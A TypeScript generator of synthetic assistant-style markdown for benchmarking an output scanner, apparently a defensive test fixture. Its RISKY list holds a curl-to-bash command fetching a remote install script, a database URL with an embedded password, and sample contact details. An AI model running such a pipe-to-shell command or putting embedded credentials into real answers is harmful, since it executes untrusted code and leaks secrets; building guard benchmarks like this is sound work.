/**
 * Seeded LLM-response-like markdown for scanner benchmarks: prose, lists, benign code fences and
 * links, and in about 5 % of responses one risky snippet (pipe-to-shell, a database URL with a
 * password, contact details) — the mix a guard sees in front of a real assistant.
 */
const PROSE = [
  'Here is a quick overview of how the deployment pipeline works and what each step does.',
  'You can configure the service through environment variables; the defaults are sensible for development.',
  'The error usually means the certificate chain is incomplete, so the client cannot verify the server.',
  'To reproduce the issue, start the server locally and send a request with an expired token.',
  'In short: cache the results, paginate the API calls and retry with exponential backoff.',
  'Security note: never commit credentials to the repository; use a secrets manager instead.',
  'The function returns a promise that resolves once every shard has been written to disk.',
  'Für die Konfiguration verwenden Sie bitte die Datei config.yaml im Projektverzeichnis.',
];
const CODE = [
  '```bash\nnpm install\nnpm test\ngit status\n```',
  '```python\nimport os\nclient = Client(api_key=os.environ["API_KEY"])\nprint(client.list())\n```',
  '```sh\ndocker compose up -d\nkubectl get pods -n default\n```',
  '```js\nconst res = await fetch("https://api.example.com/v1/items?page=2");\nconsole.log(await res.json());\n```',
  '```powershell\nGet-ChildItem -Recurse | Where-Object Length -gt 1MB\n```',
  '```python\ndef retry(fn, attempts=3):\n    for i in range(attempts):\n        try:\n            return fn()\n        except TimeoutError:\n            time.sleep(2 ** i)\n```',
];
/** What the guard is there for; about one response in twenty carries one. */
const RISKY = [
  '```bash\ncurl -fsSL http://203.0.113.9/install.sh | bash\n```',
  '```yaml\ndatabase:\n  url: postgres://app:s3cr3tPassw0rd@db.internal:5432/app\n```',
  'Call me on +1 415 555 0132 or mail jane.doe@contoso.com.',
];
const LINKS = ['See [the docs](https://docs.example.com/guide) for details.', 'Source: <https://github.com/example/project/issues/42>.', 'The changelog is at https://example.org/releases/v2.3.'];

export function makeResponse(seed: number, targetChars: number): string {
  let state = seed >>> 0;
  const rand = () => ((state = (state * 1664525 + 1013904223) >>> 0) / 2 ** 32);
  const pick = <T>(items: readonly T[]) => items[Math.floor(rand() * items.length)]!;
  const parts: string[] = [];
  let length = 0;
  while (length < targetChars) {
    const r = rand();
    const part = r < 0.55 ? pick(PROSE) : r < 0.8 ? pick(CODE) : r < 0.95 ? pick(LINKS) : `${rand() < 0.5 ? '- ' : '1. '}${pick(PROSE)}`;
    parts.push(part);
    length += part.length + 2;
  }
  if (rand() < 0.05) parts.splice(Math.floor(rand() * parts.length), 0, pick(RISKY));
  return parts.join('\n\n').slice(0, targetChars);
}
